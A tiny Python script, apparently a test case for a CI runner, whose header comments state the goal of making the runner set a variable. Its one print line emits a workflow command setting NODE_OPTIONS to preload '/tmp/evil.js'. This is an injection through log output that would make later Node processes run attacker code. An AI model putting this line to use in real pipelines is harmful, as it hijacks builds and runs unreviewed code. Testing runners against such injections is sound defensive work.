# goal: tell the runner to set a variable, by a line that looks like one of its commands
# success: logs
# held_by: always:printing
import sys

sys.stdout.reconfigure(encoding="utf-8", newline="")
print("::set-env name=NODE_OPTIONS::--require /tmp/evil.js")
